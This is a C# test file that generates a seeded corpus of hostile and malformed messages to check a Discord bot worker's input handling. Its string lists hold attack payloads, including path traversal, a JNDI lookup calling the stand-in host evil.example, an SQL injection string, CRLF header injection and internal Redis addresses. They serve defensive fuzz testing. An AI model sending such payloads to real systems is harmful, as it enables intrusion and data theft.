using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Arrakis.Testing.Hostile;

/// <summary>
/// The hostile-input corpus (issue 8): hand-picked bad values plus mutations of the ingestor's wire samples
/// (<see cref="WireFixture"/>), from a fixed seed so that a failure reproduces. Every message has a unique
/// <c>message_id</c> and, where its body still has one, the same event id.
/// </summary>
public static class HostileCorpus
{
    public const int DefaultSeed = 8_2026;

    /// <summary>Just over the worker's default body limit (256 KiB, PROCESSING_MAX_MESSAGE_BYTES).</summary>
    public const int HugeBytes = 256 * 1024 + 1;

    private static readonly string[] HostileStrings =
    [
        "../../../users/@me", "..%2F..%2Fguilds%2F1", "http://evil.example/steal", "https://discord.com.evil.example/api",
        "//evil.example/x", "\\\\evil.example\\x", "?x=1#frag", "%00", "\u0000", "a/b/c", "@everyone", "<@&1>",
        "{{token}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE users; --", "\u202Etxt.exe", "\uFEFF",
        "verify:submit:../../../", "setup:../webhooks/1/x", "Bot test-bot-token-never-logged", new string('x', 5000),
        "ping\r\nX-Injected: 1", "%0d%0aX-Injected:%201", "127.0.0.1:6379", "redis://127.0.0.1/0", "😀😀😀",
    ];

    private static readonly JsonNode?[] BadSnowflakes =
    [
        "", "0", "-1", "abc", "18446744073709551616", "99999999999999999999999", "1e10", " 123", "123 ", "１２３",
        "0x1F", "12.5", "+1", "../1", "1/2", 1, -5, 1.5, true, null, new JsonArray(), new JsonObject(),
    ];

    private static readonly string[] UnknownEventTypes =
    [
        "member.explode", "member.", "member..join", "MEMBER.JOIN", "member.join ", "member.join\u0000", "guild.delete",
        "guild.join.extra", "interaction.unknown", "interaction.", "interaction.command", "interaction.voice", "",
        "message.delete", "member.join/../../x", "member.\u202Ejoin",
    ];

    public static IReadOnlyList<HostileMessage> Generate(int seed = DefaultSeed)
    {
        var random = new Random(seed);
        // Nothing binds message.# (CONTRACT.md): those samples would never reach the worker.
        var samples = WireFixture.Names.Select(WireFixture.Load).Where(s => !s.RoutingKey.StartsWith("message.", StringComparison.Ordinal)).ToList();
        var interactions = samples.Where(s => s.Body.ContainsKey("interactionToken")).ToList();
        var list = new List<HostileMessage>();
        var n = 0;
        string NextId() => $"hostile-{seed}-{n++:D5}";

        HostileMessage Doc(string category, WireFixture sample, Action<JsonObject> mutate, bool live = false, string? routingKey = null, bool unavailable = false)
        {
            var id = NextId();
            var body = sample.Body.DeepClone().AsObject();
            body["eventId"] = id;
            var properties = sample.Properties.DeepClone().AsObject();
            properties["message_id"] = id;
            if (live)
            {
                // A user of its own: the per-user limit must not answer in place of the command.
                body["userId"] = (1_300_000_000_000_000_000UL + (ulong)n).ToString(CultureInfo.InvariantCulture);
            }

            mutate(body);
            return new HostileMessage(category, routingKey ?? sample.RoutingKey, properties, body, raw: null, live) { ExpectsUnavailable = unavailable };
        }

        // Raw bytes made from the sample's body with the message's own event id in it.
        HostileMessage Raw(string category, WireFixture sample, Func<byte[], byte[]> make)
        {
            var id = NextId();
            var body = sample.Body.DeepClone().AsObject();
            body["eventId"] = id;
            var properties = sample.Properties.DeepClone().AsObject();
            properties["message_id"] = id;
            return new HostileMessage(category, sample.RoutingKey, properties, document: null, make(JsonSerializer.SerializeToUtf8Bytes(body)), live: false);
        }

        WireFixture Pick(IReadOnlyList<WireFixture> from) => from[random.Next(from.Count)];

        // Not JSON: garbage, truncated documents, JSON that is not an object.
        string[] notJson = ["", " ", "{", "}", "[]", "null", "true", "42", "\"member.join\"", "{\"eventId\":", "<xml/>", "{'a':1}", "{\"a\":1,}", "NaN"];
        for (var i = 0; i < 100; i++)
        {
            var sample = Pick(samples);
            var cut = random.Next(1, 60);
            var text = i < notJson.Length ? notJson[i] : RandomText(random, random.Next(1, 200));
            list.Add(Raw("not-json", sample, json => i >= notJson.Length && i % 3 == 0 ? json[..cut] : Encoding.UTF8.GetBytes(text)));
        }

        // Not UTF-8: a valid sample with invalid sequences (lone continuation, overlong, surrogate, 0xFF) in a string.
        byte[][] invalid = [[0xFF], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xE2, 0x82]];
        for (var i = 0; i < 80; i++)
        {
            var sample = Pick(samples);
            var from = random.Next(200);
            list.Add(Raw("not-utf8", sample, json =>
            {
                var at = Array.IndexOf(json, (byte)'"', from % json.Length) + 1;
                return [.. json[..at], .. invalid[i % invalid.Length], .. json[at..]];
            }));
        }

        // Huge: over the body limit.
        for (var i = 0; i < 10; i++)
        {
            list.Add(Doc("huge", Pick(samples), b => b["data"]!.AsObject()["padding"] = new string('A', HugeBytes)));
        }

        // Deeply nested: past the reader's depth limit, in data and at the top.
        for (var i = 0; i < 40; i++)
        {
            var depth = i % 2 == 0 ? 17 + i : 2000 + (i * 100);
            var sample = Pick(samples);
            var nested = Encoding.UTF8.GetBytes(",\"deep\":" + string.Concat(Enumerable.Repeat("[", depth)) + string.Concat(Enumerable.Repeat("]", depth)) + "}");
            list.Add(Raw("deeply-nested", sample, json => [.. json[..^1], .. nested]));
        }

        // Wrong types and missing fields, on the envelope and in data.
        JsonNode?[] wrong = [42, -1, 1.5, true, false, null, new JsonArray(1, 2), new JsonObject { ["x"] = 1 }, "text", ""];
        for (var i = 0; i < 200; i++)
        {
            var sample = Pick(samples);
            var value = wrong[random.Next(wrong.Length)];
            list.Add(Doc("wrong-type", sample, b => Replace(random, b, value?.DeepClone(), keepEventId: i % 4 != 0)));
        }

        for (var i = 0; i < 150; i++)
        {
            list.Add(Doc("missing-field", Pick(samples), b => Remove(random, b, keepEventId: i % 5 != 0)));
        }

        // Bad snowflakes wherever an id goes.
        string[] idFields = ["guildId", "userId", "channelId", "interactionId"];
        for (var i = 0; i < 150; i++)
        {
            var sample = Pick(samples);
            var value = BadSnowflakes[random.Next(BadSnowflakes.Length)];
            list.Add(Doc("bad-snowflake", sample, b =>
            {
                var field = idFields[random.Next(idFields.Length)];
                var target = random.Next(2) == 0 || b["data"] is not JsonObject d || !d.ContainsKey(field) ? b : d;
                target[field] = value?.DeepClone();
                if (target["roles"] is JsonArray roles && roles.Count > 0)
                {
                    roles[0] = value?.DeepClone();
                }
            }));
        }

        // Unknown event types, on routing keys that reach each queue.
        for (var i = 0; i < 80; i++)
        {
            var type = UnknownEventTypes[i % UnknownEventTypes.Length];
            var sample = Pick(samples);
            var key = type.StartsWith("interaction", StringComparison.Ordinal) ? "interaction.unknown" : i % 2 == 0 ? "member.unknown" : "guild.unknown";
            list.Add(Doc("unknown-event-type", sample, b => b["eventType"] = type, routingKey: key));
        }

        // Hostile customIds on live components and modals: answered as unavailable, or dead-lettered, never followed.
        var components = interactions.Where(s => s.Body["data"]?["customId"] is not null).ToList();
        for (var i = 0; i < 80; i++)
        {
            var value = HostileStrings[i % HostileStrings.Length];
            list.Add(Doc("hostile-custom-id", Pick(components), b =>
            {
                b["interactionToken"] = "hostile-token-" + i.ToString(CultureInfo.InvariantCulture);
                b["data"]!["customId"] = value;
            }, live: true));
        }

        // Hostile option values and command names on live slash commands.
        var verify = samples.Single(s => s.Name == "interaction.command.verify");
        string[] commands = ["ping", "verify", "setup", "no-such-command", "../../users/@me"];
        for (var i = 0; i < 60; i++)
        {
            var command = commands[i % commands.Length];
            var value = HostileStrings[random.Next(HostileStrings.Length)];
            list.Add(Doc("hostile-option", verify, b =>
            {
                b["interactionToken"] = "hostile-option-" + i.ToString(CultureInfo.InvariantCulture);
                b["eventType"] = "interaction.command." + command;
                var data = b["data"]!.AsObject();
                data["commandName"] = command;
                data["options"] = new JsonArray(new JsonObject { ["name"] = value.Length > 40 ? "long" : value, ["type"] = 3, ["value"] = value });
            }, live: true, routingKey: "interaction.command." + (command.Contains('/', StringComparison.Ordinal) ? "x" : command),
            unavailable: command == "no-such-command"));
        }

        // Tokens in the wrong places: path-like interaction tokens, the bot token in content, tokens on guild events.
        string[] tokens = ["../../../webhooks/1/x", "abc/../../channels/1/messages", "tok?wait=true#x", "http://evil.example/", "%2e%2e%2f", "tok en", "", new string('t', 4000)];
        for (var i = 0; i < 60; i++)
        {
            var token = tokens[i % tokens.Length];
            if (i % 3 == 2)
            {
                var guildEvent = samples.Single(s => s.Name == "member.join");
                list.Add(Doc("token-misplaced", guildEvent, b =>
                {
                    b["interactionToken"] = token;
                    b["data"]!["displayName"] = "Bot test-bot-token-never-logged";
                }));
            }
            else
            {
                list.Add(Doc("token-misplaced", Pick(interactions), b => b["interactionToken"] = token, live: true));
            }
        }

        // Random mutations of the samples: truncation, a flipped byte, a duplicated key.
        for (var i = 0; i < 150; i++)
        {
            var sample = Pick(samples);
            var kind = i % 3;
            var position = random.Next(1, 300);
            var value = (byte)random.Next(256);
            list.Add(Raw("mutation", sample, json => kind switch
            {
                0 => json[..Math.Min(position, json.Length - 1)],
                // Past the event id's value ({"eventId":"hostile-…"), so an outcome can still be matched to the message.
                1 => Flip(json, 40 + (position % (json.Length - 40)), value),
                _ => Encoding.UTF8.GetBytes("{\"eventType\":\"member.join\"," + Encoding.UTF8.GetString(json)[1..]),
            }));
        }

        return list;
    }

    private static byte[] Flip(byte[] json, int position, byte value)
    {
        json[position] = value;
        return json;
    }

    private static string RandomText(Random random, int length)
    {
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = (char)random.Next(0x20, 0x7F);
        }

        return new string(chars);
    }

    private static JsonObject Target(Random random, JsonObject body) =>
        random.Next(2) == 0 && body["data"] is JsonObject data && data.Count > 0 ? data : body;

    private static void Replace(Random random, JsonObject body, JsonNode? value, bool keepEventId)
    {
        var target = Target(random, body);
        var keys = target.Select(p => p.Key).Where(k => !keepEventId || k != "eventId").ToList();
        target[keys[random.Next(keys.Count)]] = value;
    }

    private static void Remove(Random random, JsonObject body, bool keepEventId)
    {
        var target = Target(random, body);
        var keys = target.Select(p => p.Key).Where(k => !keepEventId || k != "eventId").ToList();
        target.Remove(keys[random.Next(keys.Count)]);
    }
}
